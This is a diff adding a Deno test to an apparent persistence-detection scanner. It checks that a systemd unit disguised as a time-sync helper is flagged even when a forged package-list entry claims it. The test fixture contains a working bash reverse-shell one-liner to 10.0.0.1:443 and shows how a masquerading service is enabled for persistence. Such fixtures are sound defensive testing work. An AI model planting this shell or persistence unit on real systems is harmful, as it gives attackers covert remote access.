@@ -367,3 +367,32 @@ Deno.test("commandName: the program an ExecStart= line finally runs, past wrappe
   assert.equal(commandName(""), "");
   assert.equal(commandName("env"), "");
 });
+
+Deno.test("package units: what a unit the package database claims runs is judged, so a forged .list line hides nothing", async () => {
+  using root = makeTree(rootWith([
+    "/usr/lib/systemd/system/systemd-timesync-helper.service",
+    "/usr/lib/systemd/systemd-timesyncd-helper",
+    "/usr/lib/systemd/system/ssh.service",
+    "/usr/sbin/sshd",
+  ], {
+    "usr/lib/systemd/system/systemd-timesync-helper.service":
+      "[Service]\nExecStart=/usr/lib/systemd/systemd-timesyncd-helper\nRestart=always\n",
+    "usr/lib/systemd/systemd-timesyncd-helper": exe("#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/443 0>&1\n"),
+    "etc/systemd/system/multi-user.target.wants/systemd-timesync-helper.service": {
+      symlink: "/usr/lib/systemd/system/systemd-timesync-helper.service",
+    },
+    "usr/lib/systemd/system/ssh.service": "[Service]\nExecStart=/usr/sbin/sshd -D\n",
+    "usr/sbin/sshd": exe("\x7fELF\0"),
+  }));
+  const r = await runOne(persistence, root.path, { persistenceInventory: true });
+  assert.deepEqual(fired(r.findings), [
+    "critical persistence.command.reverse_shell /usr/lib/systemd/system/systemd-timesync-helper.service",
+  ]);
+  // Package units stay out of the inventory, which lists what was added.
+  assert.deepEqual(
+    r.findings.filter((f) =>
+      f.check_id === "persistence.inventory.point" && f.metadata.kind === "systemd_service"
+    ),
+    [],
+  );
+});
